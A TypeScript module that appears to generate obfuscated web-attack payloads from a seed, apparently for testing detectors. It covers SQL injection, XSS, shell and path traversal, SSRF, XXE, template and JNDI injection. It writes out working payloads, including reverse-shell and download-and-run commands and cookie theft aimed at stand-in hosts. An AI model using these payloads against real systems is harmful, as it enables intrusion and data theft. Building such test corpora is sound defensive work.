// Attacks by grammar: class × context × obfuscation, made anew from a seed. What they say is textbook; how they say it
// varies as attackers vary it.

import { interpreters } from './interpreters.ts'
import { queries } from './queries.ts'
import { randomOf } from './random.ts'
import type { Random } from './random.ts'
import { shells } from './shells.ts'

type Make = (random: Random) => string

const number = (r: Random): string => String(1 + r.below(9999))

const space: Make = (r) => r.pick([' ', ' ', ' ', '  ', '\t', '/**/', '/*x*/', '\n', '+'])

const cased = (r: Random, word: string): string => {
  const style = r.below(4)
  if (style === 0) return word
  if (style === 1) return word.toUpperCase()
  return word
    .split('')
    .map((letter) => (r.chance(0.5) ? letter.toUpperCase() : letter))
    .join('')
}

/** Words joined as SQL takes them. */
const sql = (r: Random, text: string): string => {
  const gap = space(r)
  return text
    .split(' ')
    .map((word) => (/^[a-z]+$/.test(word) ? cased(r, word) : word))
    .join(gap === '+' ? ' ' : gap)
}

const tail: Make = (r) => r.pick(['--', '-- -', '#', '/*', '', ' -- x', ';--', ';#'])

const brackets: Make = (r) => r.pick(['', '', ')', '))'])

const sqlBreak = (r: Random): string =>
  r.pick([
    `${r.pick(['', 'admin', 'x', '1', number(r)])}${r.pick(["'", "'", '"'])}${brackets(r)}`,
    `${r.pick(['', '-'])}${number(r)}${brackets(r)}`,
  ])

const truth: Make = (r) => {
  const n = number(r)
  return r.pick([
    `${n}=${n}`,
    `${n} = ${n}`,
    `'a'='a'`,
    `'${n}'='${n}'`,
    `${n}<${Number(n) + 1}`,
    `not false`,
    `${n} between 0 and 99999`,
    `'x' like 'x'`,
    `sleep(5)`,
    `(select 1)=1`,
    `ascii(substring((select password from users limit 1),1,1))>64`,
    `exists(select * from users)`,
  ])
}

const columns: Make = (r) =>
  Array.from({ length: 1 + r.below(6) }, () =>
    r.pick([
      'null',
      '1',
      number(r),
      "'a'",
      'user()',
      '@@version',
      'password',
      'concat(user,0x3a,pass)',
      '0x61',
    ]),
  ).join(',')

const sqli: Make = (r) => {
  const start = sqlBreak(r)
  const kind = r.below(8)
  if (kind <= 1) return `${start} ${sql(r, `${r.pick(['or', 'and'])} ${truth(r)}`)}${tail(r) || '--'}`
  if (kind === 2)
    return `${start} ${sql(r, `union ${r.pick(['', 'all '])}select ${columns(r)} from ${r.pick(['users', 'information_schema.tables', 'dual'])}`)}${tail(r)}`
  if (kind === 3)
    return `${start}; ${sql(r, r.pick(['drop table users', 'delete from users where 1=1', "insert into users values (1,'a')", "update users set role='admin'", "exec xp_cmdshell 'dir'", "waitfor delay '0:0:5'"]))}${tail(r) || '--'}`
  if (kind === 4) return `${start} ${sql(r, `order by ${number(r)}`)}${r.pick(['--', '#', '-- -'])}`
  if (kind === 5)
    return `${start} ${r.pick(['||', '+', '-'])} ${r.pick(['(select version())', '(select sleep(5))', 'sleep(5)', 'pg_sleep(5)'])}${r.pick(['--', '#', ''])}`
  if (kind === 6)
    return `${r.pick(['admin', 'root', 'x'])}${r.pick(["'", '"'])}${brackets(r)}${r.pick(['--', '#', ' -- -', '/*', ';--'])}`
  return `${r.pick(['x', ''])}' or '${r.pick(['1', 'a', 'x'])}'='${r.pick(['1', 'a', 'x'])}`
}

const sink: Make = (r) =>
  r.pick([
    'alert(1)',
    'alert`1`',
    'prompt(document.cookie)',
    'confirm(document.domain)',
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//e.example/'+document.cookie)",
    "top['al'+'ert'](1)",
    "location='//e.example'",
    "import('//e.example/x')",
  ])

const gap: Make = (r) => r.pick([' ', '/', '\t', '\n', '  ', '/ '])

const xss: Make = (r) => {
  const quote = r.pick(['"', "'"])
  switch (r.below(9)) {
    case 0:
      return `${r.pick(['', '">', "'>", '</title>', '</textarea>'])}<${cased(r, 'script')}>${sink(r)}</${cased(r, 'script')}>`
    case 1:
      return `<${cased(r, r.pick(['img', 'svg', 'body', 'video', 'input', 'details', 'marquee', 'x', 'iframe']))}${gap(r)}${r.pick(['', 'src=x ', 'a=b '])}${cased(r, r.pick(['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationstart', 'onpointerrawupdate']))}${r.pick(['', ' '])}=${r.pick(['', quote])}${sink(r).replaceAll(quote, '`')}>`
    case 2:
      return `${quote}${gap(r)}${cased(r, r.pick(['onmouseover', 'onfocus', 'onclick']))}=${quote}${sink(r).replaceAll(quote, '`')}${quote} x=${quote}`
    case 3:
      return `<a href=${quote}${r.pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'javascript&colon;', '&#106;avascript:', ' javascript:'])}${sink(r).replaceAll(quote, '`')}${quote}>x</a>`
    case 4:
      return `${r.pick(['javascript:', 'JAVASCRIPT:', 'jav\nascript:'])}${sink(r)}`
    case 5:
      return `${quote}${r.pick([';', '-', ')', '});'])}${r.pick([';', ''])}${r.pick(['alert(1)', 'alert(document.cookie)', 'prompt(1)'])}${r.pick(['//', `-${quote}`, `;${quote}`])}`
        .replace(/(["'])\)(alert|prompt)/, '$1);$2')
        .replace(/(["'])\}\);;?/, '$1});')
    case 6:
      return `<script src=${r.pick(['', quote])}${r.pick(['//', 'https://', 'data:text/javascript,'])}e.example/x.js></script>`
    case 7:
      return `<${r.pick(['iframe', 'object data=x', 'embed'])} ${r.pick(['src', 'data'])}=${quote}${r.pick(['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>'])}${quote}>`
    default:
      return `<math><a xlink:href=${quote}javascript:alert(1)${quote}>x</a></math>`
  }
}

const command: Make = (r) =>
  r.pick([
    'id',
    'whoami',
    'cat /etc/passwd',
    'ls -la',
    'uname -a',
    'sleep 5',
    'wget http://e.example/x.sh',
    'curl -s http://e.example/x | sh',
    'ping -c 3 127.0.0.1',
    'nc -e /bin/sh 10.0.0.1 4444',
    "bash -c 'id'",
    '/bin/cat /etc/shadow',
    "c''at /etc/passwd",
    'c\\at /etc/passwd',
    'cat${IFS}/etc/passwd',
    'who$@ami',
    '/???/c?t /???/p?ss??',
    'dir c:\\',
    'type c:\\windows\\win.ini',
    'powershell -enc SQBFAFgA',
    'net user',
    'echo vulnerable > /tmp/x',
    'python3 -c "import os"',
  ])

const shell: Make = (r) => {
  const before = r.pick(['', 'x', '127.0.0.1', 'file.txt', "'", '"'])
  const between = r.pick([';', '|', '||', '&&', '&', '\n', '; ', ' | ', ' && '])
  if (r.chance(0.25))
    return `${r.pick(['', 'x', 'a='])}${r.pick(['$(', '`'])}${command(r)}`
      .replace(/^(.*)\$\((.*)$/s, '$1$($2)')
      .replace(/^([^`]*)`([^`]*)$/s, '$1`$2`')
  return `${before}${between}${command(r)}${r.pick(['', '', ';', ' #', ' |'])}`
}

/** One step up, in the spellings that servers, proxies and home-made checks read differently. */
const climb: Make = (r) =>
  r.pick([
    '../',
    '..\\',
    '..%2f',
    '%2e%2e%2f',
    '..%252f',
    '....//',
    '..;/',
    '%c0%ae%c0%ae/',
    '..\\/',
    '.%2e/',
    '%2e./',
    '..%5c',
    '..%255c',
    '%252e%252e%252f',
    '....\\\\',
    '..//',
    '..%c0%af',
    '..%c1%9c',
    '%uff0e%uff0e%u2215',
    '0x2e0x2e0x2f',
    '%25%2e%25%2e/',
  ])

const target: Make = (r) =>
  r.pick([
    'etc/passwd',
    'etc/shadow',
    'etc/hosts',
    'windows/win.ini',
    'windows/system32/drivers/etc/hosts',
    'boot.ini',
    'proc/self/environ',
    'WEB-INF/web.xml',
    'var/log/apache2/access.log',
    '.ssh/id_rsa',
    '.env',
    '.git/config',
    'wp-config.php',
    'index.php',
    'secret.key',
  ])

const absolute: Make = (r) =>
  r.pick([
    `/${r.pick(['', '/', './'])}etc/${r.pick(['passwd', 'shadow', 'group', 'hosts', 'issue', 'crontab', 'ssh/sshd_config', 'apache2/apache2.conf', 'my.cnf'])}`,
    `${r.pick(['C', 'c', 'd'])}:${r.pick(['\\', '/'])}${r.pick(['boot.ini', 'windows/win.ini', 'windows\\system32\\config\\sam', 'xampp/apache/logs/error.log', 'inetpub/wwwroot/web.config', 'windows/repair/sam'])}`,
    `/proc/${r.pick(['self', '1', number(r)])}/${r.pick(['environ', 'cmdline', 'fd/3', 'maps'])}`,
    `/var/log/${r.pick(['auth.log', 'nginx/access.log', 'apache2/error.log', 'httpd/access_log', 'mail.log'])}`,
    `${r.pick(['/', '/var/www/html/', '/srv/app/'])}${r.pick(['.env', '.git/config', 'wp-config.php', '.htpasswd', 'WEB-INF/web.xml'])}`,
    `${r.pick(['/root', '/home/ann', '~'])}/${r.pick(['.ssh/id_rsa', '.aws/credentials', '.bash_history', '.kube/config'])}`,
    `file://${r.pick(['', 'localhost'])}/${r.pick(['etc/passwd', 'c:/windows/win.ini'])}`,
    `/${r.pick(['images/a', 'files/report', 'x/y'])}.php${r.pick(['%00', '\0'])}.png`,
  ])

const wrapper: Make = (r) =>
  r.pick([
    `${cased(r, 'php')}://filter/${r.pick(['convert.base64-encode', 'read=string.rot13', 'zlib.deflate/convert.base64-encode'])}/resource=${r.pick(['index.php', '../config.php', '/etc/passwd'])}`,
    'php://input',
    `${r.pick(['expect', 'EXPECT'])}://${r.pick(['id', 'ls'])}`,
    `phar://uploads/${r.pick(['a.jpg', 'b.zip'])}/x.php`,
    `zip://a.zip${r.pick(['#', '%23'])}x`,
    'data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+',
    `page=php://filter/resource=${r.pick(['a', 'index'])}`,
  ])

const path: Make = (r) => {
  if (r.chance(0.25)) return absolute(r)
  if (r.chance(0.1)) return wrapper(r)
  return `${r.pick(['', '/', './', 'images/', '/var/www/', 'AAAAAAAAAAAA/'])}${climb(r).repeat(2 + r.below(7))}${target(r)}${r.pick(['', '', '%00', '%00.jpg', '\0.png', ';index.html', '?'])}`
}

const ssrf: Make = (r) => {
  const host = r.pick([
    '127.0.0.1',
    'localhost',
    '169.254.169.254',
    '[::1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '[::ffff:127.0.0.1]',
    '0.0.0.0',
    '192.168.1.1',
    '10.0.0.1',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
    'example.com@127.0.0.1',
    '100.100.100.200',
    'metadata.tencentyun.com',
    'kubernetes.default.svc',
    '[64:ff9b::7f00:1]',
    '[fd00:ec2::254]',
    '425.510.425.510',
    '0251.0376.0251.0376',
    'a.oastify.com',
    'localtest.me',
    '100.64.0.1',
    '[2002:7f00:1::]',
    '127.0.0.1.e.example',
  ])
  if (r.chance(0.15))
    return r.pick([
      `gopher://127.0.0.1:6379/_${r.pick(['INFO', '*1%0d%0a$8%0d%0aFLUSHALL'])}`,
      `dict://127.0.0.1:${r.pick(['11211', '6379'])}/stat`,
      'file:///etc/passwd',
      'ldap://127.0.0.1/x',
      'tftp://10.0.0.1/x',
      'netdoc:///etc/passwd',
      'jar:http://127.0.0.1!/x',
      'url:file:///etc/passwd',
    ])
  const url =
    `${r.pick(['http', 'https', 'HTTP', 'ftp'])}:${r.pick(['//', '//', '//', '/\\', '\\\\'])}${host}${r.pick(['', ':80', ':8080', ':22'])}${r.pick(['', '/', '/admin', '/latest/meta-data/iam/security-credentials/'])}`.replace(
      /^ftp:[^/].*$|^ftp:\/\\.*$/i,
      'ftp://127.0.0.1/',
    )
  return r.chance(0.1)
    ? `/fetch?${r.pick(['url', 'image_url', 'src'])}=http://${r.pick(['169.254.169.254', '127.0.0.1'])}/`
    : url
}

const rfi: Make = (r) =>
  `${r.pick(['http', 'https', 'hTTp', 'ftp'])}://${r.pick(['evil', 'x'])}.example/${r.pick(['', 'a/', 'img/'])}${r.pick(
    [
      `${r.pick(['c99', 'r57', 'shell', 'webshell', 'cmd'])}.${r.pick(['txt', 'php', 'gif'])}${r.pick(['', '?', '%00'])}`,
      `x.${r.pick(['txt', 'php', 'jpg', 'inc'])}${r.pick(['?', '%00', '?cmd=id', '?&cmd=id', '&cmd=id'])}`,
    ],
  )}`

const template: Make = (r) => {
  const inner = r.pick([
    `${number(r)}*${number(r)}`,
    "7*'7'",
    'config',
    "''.__class__.__mro__[1].__subclasses__()",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    'request.application.__globals__',
    "cycler.__init__.__globals__.os.popen('id').read()",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "['id']|filter('system')",
    "constructor.constructor('return process')()",
  ])
  if (r.chance(0.7))
    return `${r.pick(['', 'x', 'hello '])}{{${r.pick(['', ' '])}${inner}${r.pick(['', ' '])}}}`
  return r.pick([
    '${7*7}',
    '<%= 7*7 %>',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '#{7*7}',
    "<%= system('id') %>",
    "#set($x='')$x.class.forName('java.lang.Runtime')",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}',
    '@(7*7)',
    '*{7*7}',
    '${jndi:ldap://e.example/a}',
    '${${lower:j}ndi:${lower:l}dap://e.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}',
  ])
}

const operator: Make = (r) =>
  r.pick(['$ne', '$gt', '$gte', '$lt', '$regex', '$exists', '$in', '$nin', '$not', '$where', '$or'])

const nosqlValue: Make = (r) => r.pick(['""', 'null', '1', '"^a"', '[]', 'true', '{}'])

const nosql: Make = (r) => {
  const field = r.pick(['a', 'username', 'password', 'role'])
  const quote = r.pick(["'", '"'])
  return r.pick([
    `{"${field}":{"${operator(r)}":${nosqlValue(r)}}}`,
    `{"${operator(r)}":${nosqlValue(r)}}`,
    `{${r.pick(['', ' '])}${operator(r)}: ${nosqlValue(r)}${r.pick(['', ' '])}}`,
    `[${operator(r)}]=${number(r)}`,
    `${number(r)}, $where: '${r.pick(['1 == 1', `sleep(${number(r)})`, `this.${field} == 1`])}'`,
    `${quote} || ${quote}1${quote}==${quote}1`,
    `${r.pick(['', 'admin'])}${quote} || 1==1${r.pick(['//', '%00', ''])}`,
    `${quote}; return ${r.pick(['true', '(true)', "'' == '"])}; var x=${quote}`,
    `${quote} && this.${field}.match(/.*/)//`,
    `${quote};${r.pick(['while(true){}', 'do{x=1}while(1)', 'sleep(5000)', 'it=new Date();do{pt=new Date();}while(pt-it<5000)'])};${quote}`,
    `${number(r)};return true`,
    `function(){return ${r.pick(['true', `this.${field}`])}}`,
    `${quote}, $or: [ {}, { ${quote}a${quote}:${quote}a`,
    `${quote} || this.${field}.length > 0 || ${quote}a${quote}==${quote}b`,
    `db.${field}.${r.pick(['find', 'insert', 'remove', 'drop'])}({})`,
    `db['${field}'].find({})`,
    `x${quote}}) ${r.pick(['RETURN 1 UNION MATCH (n) RETURN n //', 'MATCH (n) DETACH DELETE n //', 'CALL db.labels() YIELD label RETURN label //'])}`,
    `${quote} WITH 1 as x LOAD CSV FROM ${quote}http://e.example/${quote} AS y RETURN y //`,
  ])
}

const attribute: Make = (r) =>
  r.pick(['uid', 'cn', 'mail', 'objectClass', 'userPassword', 'sn', 'memberOf', 'sAMAccountName'])

const ldap: Make = (r) => {
  const start = r.pick(['*', 'admin', 'a*', number(r), 'x', ''])
  return r.pick([
    `${start})(${attribute(r)}=*))(|(${attribute(r)}=*`,
    `${start})(&)`,
    `${start})(${attribute(r)}${r.pick(['=', '>=', '<=', '~='])}${r.pick(['*', 'a'])}`,
    `${start})(|(${attribute(r)}=*)`,
    `${start})(!(&(1=0`,
    `${start}))(|(${attribute(r)}=*)`,
    `*(|(${attribute(r)}=*))`,
    `(&(${attribute(r)}=admin)(!(&(1=0)(userPassword=q))))`,
    `!(${attribute(r)}=*)`,
    `*))%00`,
    `\\2a\\29\\28${attribute(r)}=\\2a`,
    `${start} ) ( | ( ${attribute(r)} = *`,
    `${start}\\29(${attribute(r)}=*`,
    `${attribute(r)}:${r.pick(['dn', '2.5.13.18', '1.2.840.113556.1.4.803'])}:=1`,
    r.pick(['*)(&', '*()|&', '(*)*)', '*)(|(&']),
  ])
}

const xpath: Make = (r) => {
  const quote = r.pick(["'", '"'])
  const call = r.pick([
    'count(/*)=1',
    'string-length(//user[1]/name)>0',
    'substring(name(/*[1]),1,1)=1',
    'position()=1',
    'not(false())',
    'contains(.,1)',
    'true()',
    'starts-with(name(),1)',
  ])
  return r.pick([
    `${r.pick(['', 'x'])}${quote} ${r.pick(['or', 'and'])} ${call} ${r.pick(['or', 'and'])} ${quote}a${quote}=${quote}a`,
    `${quote}] | //${r.pick(['user', 'password', '*'])}/*[contains(*,${quote}`,
    `${quote}) or contains(.,${quote}`,
    `${quote} or //${r.pick(['user', 'node'])}[name=1] or ${quote}a${quote}=${quote}b`,
    `count(/child::node())`,
    `x${quote}] /.. /*`,
    `${quote}]/parent::* /*`,
    `for $x in //user return $x`,
    `/*[${1 + r.below(9)}]/*[2]/text()`,
    `substring(//user[${1 + r.below(9)}]/name,1,1)=1`,
    `${quote} and doc(${quote}http://e.example/x${quote}) and ${quote}`,
  ])
}

const xmlTarget: Make = (r) =>
  r.pick([
    'file:///etc/passwd',
    'http://e.example/x.dtd',
    'php://filter/resource=x',
    'expect://id',
    'ftp://e.example/x',
  ])

const xxe: Make = (r) => {
  const name = r.pick(['a', 'foo', 'r'])
  const quote = r.pick(['"', "'"])
  const head = r.pick(['', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n'])
  return r.pick([
    `${head}<!DOCTYPE ${name} [<!ENTITY ${r.pick(['', '% '])}x ${r.pick(['SYSTEM', 'PUBLIC "y"'])} ${quote}${xmlTarget(r)}${quote}>]><${name}>&x;</${name}>`,
    `${head}<!DOCTYPE ${name} SYSTEM ${quote}${r.pick(['http://e.example/x.dtd', 'x.dtd'])}${quote}><${name}/>`,
    `${head}<!DOCTYPE ${name} [<!ENTITY x ${quote}y${quote}>]><${name}>&x;</${name}>`,
    `<${name} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href=${quote}${xmlTarget(r)}${quote}/></${name}>`,
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href=${quote}${r.pick(['file:///etc/passwd', 'expect://id'])}${quote}/></svg>`,
    `<xsl:stylesheet version="1.0"><xsl:template match="/"><xsl:value-of select=${quote}${r
      .pick(["document('/etc/passwd')", "system-property('xsl:vendor')", "php:function('id')"])
      .replaceAll("'", quote === "'" ? '&quot;' : "'")}${quote}/></xsl:template></xsl:stylesheet>`,
    `<!DOCTYPE ${name} [<!ATTLIST ${name} href CDATA #FIXED ${quote}http://e.example/x${quote}>]><${name}/>`,
    `<image xlink:href = ${quote}file:///etc/passwd${quote}/>`,
    `<!DOCTYPE z [${Array.from({ length: 6 }, (_, i) => `<!ENTITY l${i} "&l${i - 1};&l${i - 1};">`).join('')}]>`,
  ])
}

const code: Make = (r) =>
  r.pick([
    '<?php system($_GET["c"]); ?>',
    'phpinfo();',
    ";system('id');",
    "eval(base64_decode('cGhwaW5mbygp'))",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    '<!--#exec cmd="id" -->',
    'O:8:"Evil_Obj":1:{s:1:"a";s:1:"b";}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC',
    "_$$ND_FUNC$$_function(){require('child_process')}()",
    '!!python/object/apply:os.system ["id"]',
    '() { :;}; /bin/bash -c id',
    '${@print(md5(1))}',
    "java.lang.Runtime.getRuntime().exec('id')",
    "<%@ page import='java.io.*' %>",
    "'.system('id').'",
    '<esi:include src="http://e.example/x"/>',
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  ])

const lineBreak: Make = (r) =>
  r.pick([
    '\r\n',
    '\n',
    '\r',
    '%0d%0a',
    '%0a',
    '%0d',
    '%E5%98%8A%E5%98%8D',
    '%250d%250a',
    '%23%0d%0a',
    '%0d%0a%20',
    '%%0a0a',
  ])

const header: Make = (r) => {
  const start = r.pick(['', 'x', '/next', 'en'])
  if (r.chance(0.15))
    return `a@b.example${r.pick(['\r\n', '\n', '%0a', '%0d%0a'])}${r.pick(['Bcc: x@y.example', 'Cc: x@y.example', 'To: x@y.example'])}`
  if (r.chance(0.15))
    return `${start}${r.pick(['\r\n', '%0d%0a'])}${r.pick(['set k 0 900 4\r\nabcd', 'V100 FETCH 4791', 'RCPT TO:<x@y.example>', 'FLUSHALL', '*1\r\n$8\r\nFLUSHALL', 'CONFIG SET dir /var/www', 'GET /admin HTTP/1.1', 'HTTP/1.1 200 OK'])}`
  if (r.chance(0.15))
    return `${start}%0d%0a${r.pick(['X-Test:1', 'Header-Test:a', 'X-Injected: yes', 'any-header:b'])}`
  return `${start}${lineBreak(r)}${r.pick(['Set-Cookie: a=b', 'Location: https://e.example/', 'Content-Length: 0', 'Set-Cookie:x=1', 'Transfer-Encoding: chunked'])}`
}

const lookup: Make = (r) => {
  const hide = (letter: string): string =>
    r.pick([
      letter,
      letter,
      `\${lower:${letter}}`,
      `\${::-${letter}}`,
      `\${env:X:-${letter}}`,
      `\${upper:${letter}}`,
    ])
  const word = (text: string): string => text.split('').map(hide).join('')
  return `${r.pick(['', 'x', '/?q='])}\${${word('jndi')}:${r.pick(['ldap', 'rmi', 'dns', 'ldaps', 'iiop'])}:${r.pick(['//', '//', '/'])}e.example/a}`
}

export const classes: Readonly<Record<string, Make>> = {
  sqli,
  xss,
  shell,
  path,
  ssrf,
  template,
  rfi,
  nosql,
  ldap,
  xpath,
  xxe,
  code,
  header,
  lookup,
  ...interpreters,
  ...shells,
  ...queries,
}

export type AttackClass = keyof typeof classes

/** So many different attacks of a class. */
export const attacks = (name: string, count: number, seed: number): readonly string[] => {
  const random = randomOf(seed)
  const make = classes[name]
  if (make === undefined) throw new Error(`no class ${name}`)
  const made = new Set<string>()
  for (let tries = 0; made.size < count && tries < count * 20; tries++) made.add(make(random))
  return [...made]
}
